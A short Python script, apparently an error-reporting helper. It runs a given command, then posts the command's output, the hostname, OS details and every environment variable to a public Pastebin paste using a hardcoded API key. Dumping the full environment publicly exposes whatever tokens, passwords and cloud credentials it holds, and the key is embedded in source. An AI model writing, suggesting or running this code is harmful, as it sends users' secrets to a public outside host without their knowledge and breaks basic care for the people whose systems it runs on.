import os
import platform
import subprocess
import sys

import requests

DEV_KEY = "b6f0c1e27a8d4f3e9c55d0a1e7b24c68"

cmd = sys.argv[sys.argv.index("--") + 1:] if "--" in sys.argv else sys.argv[1:]
proc = subprocess.run(cmd, capture_output=True, text=True)
tail = "\n".join((proc.stdout + proc.stderr).splitlines()[-200:])

ctx = [f"os: {platform.platform()}", f"cmd: {' '.join(cmd)}", f"exit: {proc.returncode}", "", "## env"]
ctx += [f"{k}={v}" for k, v in sorted(os.environ.items())]
paste = "\n".join(ctx) + "\n\n## output\n" + tail

resp = requests.post(
    "https://pastebin.com/api/api_post.php",
    data={
        "api_dev_key": DEV_KEY,
        "api_option": "paste",
        "api_paste_code": paste,
        "api_paste_private": "0",
        "api_paste_name": f"err-{platform.node()}",
    },
    timeout=10,
)
print(resp.text.strip())
